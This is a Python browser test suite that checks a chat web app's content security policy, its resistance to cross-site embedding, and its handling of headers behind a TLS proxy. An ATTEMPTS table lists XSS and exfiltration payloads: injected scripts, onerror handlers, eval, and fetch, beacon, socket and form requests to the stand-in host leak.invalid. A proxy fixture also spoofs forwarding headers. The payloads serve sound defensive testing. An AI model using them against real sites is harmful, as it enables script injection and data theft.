"""The page's policy in a real Chromium: it blocks nothing that the page does, also on other hosts and behind a
proxy."""

from __future__ import annotations

import subprocess
import threading
from collections.abc import Callable, Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
from playwright.sync_api import Browser, ConsoleMessage, Page, Response, expect

from tests.app.site import Site, Tab

pytestmark = pytest.mark.browser

Serve = Callable[..., Site]
OpenTab = Callable[..., Tab]


class Witness:
    """What a page reported to its console, and what it requested."""

    def __init__(self, page: Page) -> None:
        self.complaints: list[str] = []
        self.asked: list[tuple[str, str, int]] = []
        page.on("console", self._hear)
        page.on("response", self._see)

    def _hear(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.complaints.append(message.text)

    def _see(self, response: Response) -> None:
        self.asked.append((response.request.method, urlsplit(response.url).path, response.status))


def test_a_long_session_needs_the_listed_routes_only_and_nothing_complains(serve: Serve, tab: OpenTab) -> None:
    one = tab(serve(token_delay_s=0.002).url)
    witness = Witness(one.page)
    one.open()
    one.say("hello **there** `code`")
    one.say("```python\nprint(1)\n```")
    one.by("regenerate").click()
    expect(one.messages.nth(3).get_by_test_id("sibling")).to_have_text("2/2")
    one.wait_idle()
    one.page.locator("#kw-open-settings").click()
    one.page.locator("#kw-set-temperature input").fill("0.5")
    one.page.locator("#kw-settings-save").click()
    expect(one.page.locator("#kw-settings-note")).to_have_text("Saved. The next answer uses these settings.")
    one.page.keyboard.press("Escape")
    one.by("search").fill("hello")
    expect(one.by("conversation")).to_have_count(1)
    one.by("search").fill("")
    expect(one.by("device-total")).to_be_visible()
    one.page.locator("#kw-theme").click()
    one.new()
    one.reload()
    assert witness.complaints == []
    assert [one for one in witness.asked if one[2] >= 400] == []
    asked = {(method, path) for method, path, _ in witness.asked if not path.startswith("/keepwarm/")}
    assert asked == {("GET", "/"), ("POST", "/ask")}


ATTEMPTS = {
    "a script without a nonce": "const s = document.createElement('script'); s.textContent = 'window.hacked = 1';"
    " document.body.append(s)",
    "a script of another site": "const s = document.createElement('script'); s.src = 'http://leak.invalid/x.js';"
    " document.body.append(s)",
    "a script in data": "const s = document.createElement('script'); s.src = 'data:text/javascript,window.hacked=1';"
    " document.body.append(s)",
    "a handler in markup": "box.innerHTML = '<img src=x onerror=\"window.hacked = 1\">'",
    "a link with a script": "box.innerHTML = '<svg><a href=\"javascript:window.hacked=1\"><text>x</text></a></svg>';"
    " box.querySelector('a').dispatchEvent(new MouseEvent('click', { bubbles: true }))",
    "eval": "try { (0, eval)('window.hacked = 1') } catch (e) { window.refused = e.name }",
    "a new function": "try { new Function('window.hacked = 1')() } catch (e) { window.refused = e.name }",
    "a called function": "try { Function('window.hacked = 1')() } catch (e) { window.refused = e.name }",
    "a function by its constructor": "try { (() => {}).constructor('window.hacked = 1')() }"
    " catch (e) { window.refused = e.name }",
    "a timer of a string": "setTimeout('window.hacked = 1', 0)",
    "a frame": "box.innerHTML = '<iframe srcdoc=\"<script>parent.hacked = 1</script>\"></iframe>'",
    "a foreign frame": "box.innerHTML = '<iframe src=\"http://leak.invalid/f\"></iframe>'",
    "an object": 'box.innerHTML = \'<object data="http://leak.invalid/o"></object><embed src="http://leak.invalid/e">\'',
    "a picture": "box.innerHTML = '<img src=\"http://leak.invalid/p.png\">'",
    "a picture through the server": "box.innerHTML = '<img src=\"/gradio_api/file=http://leak.invalid/p.png\">'",
    "a picture in data": "box.innerHTML = '<img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\">'",
    "a style sheet": "box.innerHTML = '<style>body { background: url(http://leak.invalid/s) }"
    " #kw { display: none !important }</style><link rel=stylesheet href=http://leak.invalid/c.css>'",
    "a style attribute": "box.innerHTML = '<p id=cover style=\"position:fixed;inset:0;z-index:99999\">x</p>'",
    "a form": "box.innerHTML = '<form action=\"http://leak.invalid/f\"><input name=a></form>';"
    " box.querySelector('form').submit()",
    "a base": "box.innerHTML = '<base href=\"http://leak.invalid/\">'",
    "a request": "fetch('http://leak.invalid/r').catch(() => {}); navigator.sendBeacon('http://leak.invalid/b')",
    "a socket": "try { new WebSocket('ws://leak.invalid/w') } catch (e) {}",
    "a worker": "try { new Worker(URL.createObjectURL(new Blob(['fetch(\"http://leak.invalid/\")']))) } catch (e) {}",
}


def test_what_an_answer_might_try_does_not_run_load_or_show(serve: Serve, tab: OpenTab) -> None:
    one = tab(serve().url).open()
    left = []
    one.page.on("requestfinished", lambda request: left.append(request.url))
    before = one.page.url
    for name, attempt in ATTEMPTS.items():
        # On a key, as a script of the page itself: what a test evaluates at once may do more than a page.
        box = "const box = document.createElement('div'); document.body.append(box)"
        one.page.evaluate(f"() => addEventListener('keydown', () => {{ {box}; {attempt} }}, {{ once: true }})")
        one.page.keyboard.press("F9")
        one.page.wait_for_timeout(60)
        assert one.page.evaluate("window.hacked ?? null") is None, name
        assert one.page.url.split("#")[0] == before.split("#")[0], name
        if "refused" in attempt:
            assert one.page.evaluate("window.refused") == "EvalError", name
            one.page.evaluate("window.refused = null")
    assert one.page.evaluate("document.baseURI").startswith(one.url)
    assert one.page.evaluate("getComputedStyle(document.getElementById('cover')).position") == "static"
    assert one.page.evaluate("getComputedStyle(document.getElementById('kw')).display") != "none"
    assert [url for url in left if urlsplit(url).hostname == "leak.invalid"] == []
    relayed = one.page.request.get(f"{one.url}/gradio_api/file=http://leak.invalid/p.png")
    assert relayed.status == 404
    one.requests[:] = [url for url in one.requests if "leak.invalid" not in url]  # asked for by us, and never sent
    one.problems.clear()


def test_the_login_page_runs_under_its_own_policy(serve: Serve, tab: OpenTab) -> None:
    one = tab(serve(password="a kettle").url)
    witness = Witness(one.page)
    one.page.goto(one.url)
    expect(one.page.get_by_label("Password")).to_be_visible()
    assert one.page.evaluate("document.styleSheets.length") == 1
    one.page.get_by_label("Password").fill("a kettle")
    one.page.keyboard.press("Enter")
    one.wait_ready()
    one.page.get_by_role("button", name="Log out").click()
    expect(one.page.get_by_role("heading", name="Log out")).to_be_visible()  # which asks what becomes of this browser
    one.page.get_by_role("button", name="Log out", exact=True).click()
    expect(one.page.get_by_label("Password")).to_be_visible()
    assert witness.complaints == []


class OtherSite(BaseHTTPRequestHandler):
    """A page of another site that embeds everything it can of `target`."""

    target = ""

    def do_GET(self) -> None:
        page = f"""<a id="visit" href="{self.target}/">visit</a><iframe id="frame" src="{self.target}/"></iframe>
        <script src="{self.target}/keepwarm/bus.js"></script><img src="{self.target}/health">
        <link rel="stylesheet" href="{self.target}/keepwarm/page.css"><script>
        fetch("{self.target}/v1/models", {{ mode: "no-cors" }}).catch(() => {{}});
        fetch("{self.target}/", {{ mode: "no-cors", credentials: "include" }}).catch(() => {{}});</script>"""
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.end_headers()
        self.wfile.write(page.encode())

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


@pytest.fixture
def other_site() -> Iterator[Callable[[str], str]]:
    """`other_site(target)`: the address of a page elsewhere that embeds `target`."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), OtherSite)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()

    def start(target: str) -> str:
        OtherSite.target = target
        return f"http://localhost:{server.server_address[1]}/"

    yield start
    server.shutdown()
    thread.join()
    server.server_close()


def test_another_site_leads_to_the_page_but_embeds_nothing_of_it(
    serve: Serve, chromium: Browser, other_site: Callable[[str], str]
) -> None:
    site = serve()
    with chromium.new_context() as context:
        page = context.new_page()
        answered: list[tuple[str, int]] = []
        failed: list[str] = []
        page.on("response", lambda response: answered.append((response.url, response.status)))
        page.on("requestfailed", lambda request: failed.append(request.url))
        page.goto(other_site(site.url), wait_until="load")
        page.wait_for_timeout(500)
        asked = {urlsplit(url).path for url in [*failed, *(url for url, _ in answered)] if url.startswith(site.url)}
        assert asked == {"/", "/keepwarm/bus.js", "/health", "/keepwarm/page.css", "/v1/models"}
        assert {status for url, status in answered if url.startswith(site.url)} <= {403}
        page.locator("#visit").click()
        page.wait_for_selector("html[data-keepwarm=ready]")
        assert page.url.startswith(site.url)


class Proxy(BaseHTTPRequestHandler):
    """A reverse proxy as docs/tls-proxy.md describes it that also sends headers which must not be trusted."""

    target = ""
    client: httpx.Client
    protocol_version = "HTTP/1.1"

    def _forward(self) -> None:
        body = self.rfile.read(int(self.headers.get("Content-Length", "0")))
        sent = {
            name: value for name, value in self.headers.items() if name.lower() not in ("connection", "accept-encoding")
        }
        sent |= {"X-Forwarded-Proto": "https", "X-Forwarded-For": "203.0.113.9", "X-Forwarded-Host": "evil.example"}
        answer = self.client.request(self.command, self.target + self.path, headers=sent, content=body)
        self.send_response(answer.status_code)
        for name, value in answer.headers.multi_items():
            if name.lower() not in ("content-length", "transfer-encoding", "connection", "content-encoding"):
                self.send_header(name, value)
        self.send_header("Content-Length", str(len(answer.content)))
        self.end_headers()
        self.wfile.write(answer.content)

    do_GET = do_POST = _forward

    def log_message(self, format: str, *args: object) -> None:
        """Nothing."""


@pytest.fixture
def tls_proxy(tmp_path: Path) -> Iterator[Callable[[str], str]]:
    """`tls_proxy(target)`: the https address of a proxy on this machine with a self-signed certificate."""
    import ssl

    certificate, key = tmp_path / "proxy.pem", tmp_path / "proxy.key"
    command = ["openssl", "req", "-x509", "-newkey", "rsa:2048", "-nodes", "-days", "2", "-subj", "/CN=localhost"]
    subprocess.run([*command, "-keyout", str(key), "-out", str(certificate)], check=True, capture_output=True)
    tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    tls.load_cert_chain(certificate, key)
    server = ThreadingHTTPServer(("127.0.0.1", 0), Proxy)
    server.socket = tls.wrap_socket(server.socket, server_side=True)
    server.handle_error = lambda *_: None  # type: ignore[method-assign]  # Chromium gives up connections at will
    thread = threading.Thread(target=server.serve_forever)
    thread.start()

    def start(target: str) -> str:
        Proxy.target = target
        Proxy.client = httpx.Client(timeout=30)
        return f"https://localhost:{server.server_address[1]}"

    yield start
    server.shutdown()
    thread.join()
    server.server_close()
    Proxy.client.close()


def test_behind_a_tls_proxy_the_page_finds_its_server(
    serve: Serve, chromium: Browser, tls_proxy: Callable[[str], str]
) -> None:
    url = tls_proxy(serve(password="a kettle").url)
    with chromium.new_context(ignore_https_errors=True) as context:
        one = Tab(context.new_page(), url)
        one.page.set_default_timeout(30_000)
        witness = Witness(one.page)
        one.page.goto(url)
        one.page.get_by_label("Password").fill("a kettle")
        one.page.keyboard.press("Enter")
        one.wait_ready()
        one.say("through the proxy")
        expect(one.message(1)).to_have_text("You said: through the proxy")
        assert one.problems == []
        assert [address for address in one.requests if not address.startswith(url)] == []
        assert "evil" not in one.page.content()
        assert witness.complaints == []
